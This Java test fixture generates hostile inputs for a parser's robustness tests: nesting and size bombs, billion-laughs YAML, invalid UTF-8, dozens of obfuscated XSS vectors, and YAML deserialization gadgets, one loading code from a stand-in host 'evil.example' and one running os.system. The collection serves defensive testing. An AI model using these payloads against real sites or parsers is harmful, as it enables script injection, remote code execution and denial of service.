package org.articlekit.robustness;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.Supplier;
import org.articlekit.parser.ParserOptions;

/**
 * Makes hostile and broken articles in code: deep nesting, huge lines, tables and URLs, billion laughs,
 * invalid UTF-8, binary junk, and script smuggled through links, images, frames, SVG and front matter.
 * Every generator is deterministic (fixed seeds), so a failure names an input that can be made again.
 */
final class HostileInputs {

    /** The word at the bottom of every deep nesting; it must come out of every exporter. */
    static final String INNERMOST = "innermostword";
    /** How deep the deep-nesting inputs go. */
    static final int DEEP = 100_000;

    private HostileInputs() {
    }

    /** Every hostile input, each read with the default options; the script vectors also with raw HTML kept. */
    static List<HostileInput> all() {
        List<HostileInput> all = new ArrayList<>();
        all.addAll(resourceExhaustion());
        all.addAll(brokenEncodings());
        all.addAll(frontMatterAttacks());
        for (HostileInput vector : scriptVectors()) {
            all.add(vector);
            all.add(vector.withOptions("+keep-html", ParserOptions.builder().keepHtml(true).build()));
        }
        return all;
    }

    /** Inputs built to exhaust the stack, the heap or the clock. */
    static List<HostileInput> resourceExhaustion() {
        return List.of(
                input("billion-laughs", "laughs.md", HostileInputs::billionLaughs, "laughsurvivor"),
                input("deep-div", "deep.html", () -> nested("<div>", "</div>", DEEP), INNERMOST),
                input("deep-div-unclosed", "deep.html", () -> nested("<div>", "", DEEP), INNERMOST),
                input("deep-ul-li", "deep.html", () -> nested("<ul><li>", "</li></ul>", DEEP), INNERMOST),
                input("deep-ol-li-text", "deep.html", () -> nested("<ol><li>item ", "</li></ol>", DEEP), INNERMOST),
                input("deep-blockquote", "deep.html", () -> nested("<blockquote>", "</blockquote>", DEEP), INNERMOST),
                input("deep-b", "deep.html", () -> paragraph(nested("<b>", "</b>", DEEP)), INNERMOST),
                input("deep-i", "deep.html", () -> paragraph(nested("<i>", "</i>", DEEP)), INNERMOST),
                input("deep-span", "deep.html", () -> paragraph(nested("<span>", "</span>", DEEP)), INNERMOST),
                input("deep-a", "deep.html",
                        () -> paragraph(nested("<a href=\"https://example.com/x\">", "</a>", DEEP)), INNERMOST),
                input("deep-mixed", "deep.html", () -> nested(
                        "<div><ul><li><blockquote><p><b><i><span>", "</span></i></b></p></blockquote></li></ul></div>",
                        DEEP / 8), INNERMOST),
                input("deep-table", "deep.html",
                        () -> nested("<table><tr><td>", "</td></tr></table>", DEEP / 3), INNERMOST),
                input("long-line-50mb", "long.html", () -> longLine(50 * 1024 * 1024), "tailword"),
                input("table-300k-cells", "table.html", () -> table(1_000, 300), "lastcell"),
                input("url-5mb-link", "url.html", () -> longUrl("<p><a href=\"", "\">linktext</a></p>"), "linktext"),
                input("url-5mb-image", "url.html", () -> longUrl("<p>imgsurvivor <img alt=\"pic\" src=\"", "\"></p>"),
                        "imgsurvivor"),
                input("attribute-5mb", "attr.html",
                        () -> ascii("<p title=\"" + "t".repeat(5 * 1024 * 1024) + "\">attrsurvivor</p>"),
                        "attrsurvivor"),
                input("front-matter-never-closes-yaml", "open.md", () -> unclosedFrontMatter("---"), null),
                input("front-matter-never-closes-toml", "open.md", () -> unclosedFrontMatter("+++"), null),
                input("front-matter-one-long-line", "open.md",
                        () -> ascii("---\ntitle: " + "x".repeat(5 * 1024 * 1024)), null));
    }

    /** Bytes that are not the UTF-8 HTML they claim to be. */
    static List<HostileInput> brokenEncodings() {
        List<HostileInput> inputs = new ArrayList<>(List.of(
                input("invalid-utf8", "bad.md", HostileInputs::invalidUtf8, "validword"),
                input("invalid-utf8-front-matter", "bad.md", () -> concat(ascii("---\ntitle: bad "),
                        new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF}, ascii("\n---\n<p>fmsurvivor</p>")), "fmsurvivor"),
                input("nul-bytes", "nul.md", () -> ascii("---\ntitle: a\0b\n---\n<p>be\0fore</p>\0\0<p>nulsurvivor</p>"),
                        "nulsurvivor"),
                input("nul-only", "nul.md", () -> new byte[64 * 1024], null),
                input("binary-front-matter-fence", "junk.md",
                        () -> concat(ascii("---\n"), random(11, 256 * 1024)), null)));
        for (int seed = 1; seed <= 4; seed++) {
            int s = seed;
            inputs.add(input("binary-md-seed" + seed, "junk.md", () -> random(s, 256 * 1024), null));
        }
        return inputs;
    }

    /** Front matter that tries to build objects, or nests without end, in each syntax. */
    static List<HostileInput> frontMatterAttacks() {
        return List.of(
                yaml("yaml-object-tags", "gadget: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                        + "[[!!java.net.URL [\"http://evil.example/\"]]]]\nrun: !!python/object/apply:os.system [\"id\"]\n"),
                yaml("yaml-custom-tag", "value: !custom {a: 1}\n"),
                yaml("yaml-binary-tag", "blob: !!binary aGVsbG8gd29ybGQ=\n"),
                yaml("yaml-set-tag", "letters: !!set {a, b, c}\n"),
                yaml("yaml-pairs-and-omap", "pairs: !!pairs [a: 1, b: 2]\nomap: !!omap [c: 3, d: 4]\n"),
                yaml("yaml-complex-keys", "? [a, b]\n: list key\n? {c: d}\n: map key\n1: number key\n~: null key\n"),
                yaml("yaml-merge-keys", "base: &b {x: 1}\nmerged:\n  <<: *b\n  <<: *b\n  y: 2\n"),
                yaml("yaml-recursive-alias", "loop: &loop [*loop]\n"),
                yaml("yaml-deep-flow", "deep: " + "[".repeat(DEEP) + "]".repeat(DEEP) + "\n"),
                yaml("yaml-deep-block", deepBlockYaml(5_000)),
                input("json-front-matter-deep", "deep.md",
                        () -> ascii("{\"deep\": " + "[".repeat(DEEP) + "]".repeat(DEEP) + "}\n<p>fmsurvivor</p>\n"),
                        "fmsurvivor"),
                input("toml-front-matter-deep", "deep.md",
                        () -> ascii("+++\ndeep = " + "[".repeat(DEEP) + "]".repeat(DEEP) + "\n+++\n<p>fmsurvivor</p>\n"),
                        "fmsurvivor"),
                input("toml-front-matter-deep-tables", "deep.md", () -> ascii("+++\n[" + "a.".repeat(20_000)
                        + "b]\nx = 1\n+++\n<p>fmsurvivor</p>\n"), "fmsurvivor"));
    }

    /** Script smuggled into links, images, frames, SVG, comments, styles, forms and handlers. */
    static List<HostileInput> scriptVectors() {
        return List.of(
                html("link-javascript", "<p><a href=\"javascript:alert(1)\">clickme</a></p>"),
                html("link-javascript-mixed-case-space", "<p><a href=\" JaVaScRiPt:alert(1)\">clickme</a></p>"),
                html("link-javascript-tab-entity", "<p><a href=\"jav&#x09;ascript:alert(1)\">clickme</a></p>"),
                html("link-javascript-newline-entity", "<p><a href=\"jav&#x0A;ascript:alert(1)\">clickme</a></p>"),
                html("link-javascript-raw-tab", "<p><a href=\"java\tscript:alert(1)\">clickme</a></p>"),
                html("link-javascript-decimal-entities", "<p><a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;"
                        + "&#112;&#116;&#58;alert(1)\">clickme</a></p>"),
                html("link-javascript-colon-entity", "<p><a href=\"javascript&colon;alert(1)\">clickme</a></p>"),
                html("link-javascript-leading-controls", "<p><a href=\"\u0001\u0002 javascript:alert(1)\">clickme</a></p>"),
                html("link-vbscript", "<p><a href=\"VBScript:MsgBox(1)\">clickme</a></p>"),
                html("link-data-html", "<p><a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"
                        + "clickme</a></p>"),
                html("link-data-mixed-case", "<p><a href=\"  DaTa:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">"
                        + "clickme</a></p>"),
                html("image-javascript", "<p><img src=\"javascript:alert(1)\" alt=\"pic\"></p>"),
                html("image-vbscript-entity", "<p><img src=\"vb&#x73;cript:msgbox(1)\" alt=\"pic\"></p>"),
                html("image-data-svg", "<p><img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\" alt=\"pic\"></p>"),
                html("image-lazy-attributes", "<p><img src=\"x.png\" data-original=\"javascript:alert(1)\" "
                        + "data-src=\"data:text/html,x\" srcset=\"javascript:alert(1) 1x\" alt=\"pic\"></p>"),
                html("iframe-javascript", "<iframe src=\"javascript:alert(1)\"></iframe>"),
                html("iframe-data", "<iframe src=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"),
                html("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\" "
                        + "src=\"https://example.com/\"></iframe>"),
                html("media-and-objects", "<video src=\"javascript:alert(1)\" poster=\"javascript:alert(2)\"></video>"
                        + "<audio src=\"vbscript:x\"></audio><video><source src=\"javascript:alert(3)\"></video>"
                        + "<embed src=\"javascript:alert(4)\"><object data=\"javascript:alert(5)\"></object>"),
                html("svg-script-in-table", "<table><tr><td>cell<svg><script>alert(1)</script></svg></td></tr></table>"),
                html("svg-links-and-handlers", "<svg onload=\"alert(1)\"><a xlink:href=\"javascript:alert(2)\">"
                        + "<text>svgtext</text></a><animate attributeName=\"href\" to=\"javascript:alert(3)\"/></svg>"),
                html("math-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>"
                        + "</mglyph></table></mtext></math>"),
                html("noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"),
                html("script-plain", "<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><p>text</p>"),
                html("script-split-tag", "<scr<script>ipt>alert(1)</scr</script>ipt><p>text</p>"),
                html("script-in-head", "<html><head><script>alert(1)</script><title>t</title></head>"
                        + "<body onload=\"alert(2)\"><p>text</p></body></html>"),
                html("style-expressions", "<style>body{background:url(javascript:alert(1))}</style>"
                        + "<p style=\"background:url(javascript:alert(1))\">styled</p>"),
                html("event-handlers", "<p onclick=\"alert(1)\">a</p><img src=\"x.png\" onerror=\"alert(1)\" alt=\"i\">"
                        + "<div onmouseover=alert(1)>b</div><a href=\"https://example.com/\" onfocus=alert(1)>c</a>"),
                html("form-controls", "<form action=\"javascript:alert(1)\"><input type=\"text\" value=\"x\" "
                        + "onfocus=alert(1) autofocus><button formaction=\"javascript:alert(1)\">go</button>"
                        + "<textarea>t</textarea><select><option>o</option></select></form>"),
                html("meta-base-link", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"
                        + "<base href=\"javascript:alert(1)//\"><link rel=stylesheet href=\"javascript:alert(1)\"><p>x</p>"),
                html("comment-unclosed", "<p>before</p><!-- <script>alert(1)</script> <p>after"),
                html("comment-tricks", "<p>a</p><!--><script>alert(1)</script>--><!--!><img src=x onerror=alert(1)>"),
                html("cdata", "<p><![CDATA[<script>alert(1)</script>]]></p>"),
                html("template", "<template><script>alert(1)</script></template><p>text</p>"));
    }

    /**
     * Text that only looks like markup or a link once written out: escaped tags, Markdown link syntax, code
     * samples, and front-matter values. What an exporter must do with them is a design decision; these
     * inputs make it visible.
     */
    static List<HostileInput> markupLookalikes() {
        return List.of(
                html("escaped-script-text", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
                html("escaped-img-handler-text", "<p>&lt;img src=x onerror=alert(1)&gt;</p>"),
                html("markdown-link-syntax-in-text", "<p>[clickme](javascript:alert(1)) and ![x](data:text/html,evil)"
                        + " and &lt;javascript:alert(1)&gt;</p>"),
                html("lt-space-pseudo-tag", "<p>< src=\"javascript:alert(1)\" onerror=\"alert(2)\"></p>"),
                html("script-in-code-sample", "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>"),
                input("front-matter-values", "fm.md", () -> ascii("---\ntitle: \"<script>alert(1)</script>\"\n"
                        + "cover: \"javascript:alert(1)\"\nthumbnail: \"data:image/png;base64,AAAA\"\n"
                        + "summary: \"<img src=x onerror=alert(1)>\"\n---\n<p>fmvalues</p>\n"), "fmvalues"));
    }

    // ---- generators -------------------------------------------------------------------------------------------

    /** {@code depth} openings, the innermost word, {@code depth} closings: linear, no recursion. */
    static byte[] nested(String open, String close, int depth) {
        StringBuilder html = new StringBuilder((open.length() + close.length()) * depth + 64);
        html.append(open.repeat(depth)).append(INNERMOST).append(close.repeat(depth));
        return ascii(html.toString());
    }

    private static byte[] paragraph(byte[] inner) {
        return concat(ascii("<p>"), inner, ascii("</p>"));
    }

    /** A YAML front matter whose aliases expand to 10^9 strings if a reader expands them. */
    static byte[] billionLaughs() {
        StringBuilder yaml = new StringBuilder("---\nlol0: &lol0 \"lol\"\n");
        for (int level = 1; level <= 9; level++) {
            yaml.append("lol").append(level).append(": &lol").append(level).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ", ").append("*lol").append(level - 1);
            }
            yaml.append("]\n");
        }
        yaml.append("title: laughs\n---\n<p>laughsurvivor</p>\n");
        return ascii(yaml.toString());
    }

    /** One paragraph of words on a single line of {@code size} bytes, ending with {@code tailword}. */
    static byte[] longLine(int size) {
        byte[] head = ascii("<p>");
        byte[] tail = ascii(" tailword</p>");
        byte[] words = ascii("lorem ipsum dolor sit amet ");
        byte[] line = new byte[size];
        System.arraycopy(head, 0, line, 0, head.length);
        int at = head.length;
        int end = size - tail.length;
        while (at < end) {
            int n = Math.min(words.length, end - at);
            System.arraycopy(words, 0, line, at, n);
            at += n;
        }
        System.arraycopy(tail, 0, line, end, tail.length);
        return line;
    }

    /** A table of {@code rows × columns} cells; the last cell reads {@code lastcell}. */
    static byte[] table(int rows, int columns) {
        StringBuilder html = new StringBuilder(rows * columns * 12 + 64).append("<table>\n");
        for (int r = 0; r < rows; r++) {
            html.append("<tr>");
            for (int c = 0; c < columns; c++) {
                boolean last = r == rows - 1 && c == columns - 1;
                html.append("<td>").append(last ? "lastcell" : "c" + c).append("</td>");
            }
            html.append("</tr>\n");
        }
        return ascii(html.append("</table>\n").toString());
    }

    /** A 5 MB https URL between {@code before} and {@code after}. */
    static byte[] longUrl(String before, String after) {
        return ascii(before + "https://example.com/" + "a".repeat(5 * 1024 * 1024) + after);
    }

    /** A front-matter fence that never closes, over 100 000 key lines and a body. */
    static byte[] unclosedFrontMatter(String fence) {
        StringBuilder text = new StringBuilder(fence).append('\n');
        for (int i = 0; i < 100_000; i++) {
            text.append(fence.equals("+++") ? "key" + i + " = \"value\"\n" : "key" + i + ": value\n");
        }
        return ascii(text.append("<p>never closed</p>\n").toString());
    }

    /** Valid text around malformed, overlong and surrogate UTF-8; the first bad byte is at offset 13. */
    static byte[] invalidUtf8() {
        return concat(ascii("<p>validword "), new byte[] {
                (byte) 0xFF, (byte) 0xFE, (byte) 0xC3, 0x28, (byte) 0xE2, (byte) 0x82, 0x20,
                (byte) 0xF0, (byte) 0x90, (byte) 0x80, (byte) 0xED, (byte) 0xA0, (byte) 0x80,
                (byte) 0xC0, (byte) 0xAF, (byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
                ascii(" after</p>"));
    }

    /** {@code size} random bytes from a fixed seed. */
    static byte[] random(long seed, int size) {
        byte[] bytes = new byte[size];
        new Random(seed).nextBytes(bytes);
        return bytes;
    }

    static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static String deepBlockYaml(int depth) {
        StringBuilder yaml = new StringBuilder();
        for (int level = 0; level < depth; level++) {
            yaml.append(" ".repeat(level)).append("k:\n");
        }
        return yaml.append(" ".repeat(depth)).append("leaf\n").toString();
    }

    /** A YAML front matter holding {@code yaml}, then a body whose word must survive whatever the YAML does. */
    private static HostileInput yaml(String name, String yaml) {
        return input(name, name + ".md", () -> ascii("---\ntitle: attack\n" + yaml + "---\n<p>fmsurvivor</p>\n"),
                "fmsurvivor");
    }

    private static HostileInput html(String name, String body) {
        return input(name, name + ".html", () -> ascii(body), null);
    }

    private static HostileInput input(String name, String path, Supplier<byte[]> bytes, String survivor) {
        return new HostileInput(name, path, bytes, survivor, ParserOptions.DEFAULTS);
    }
}
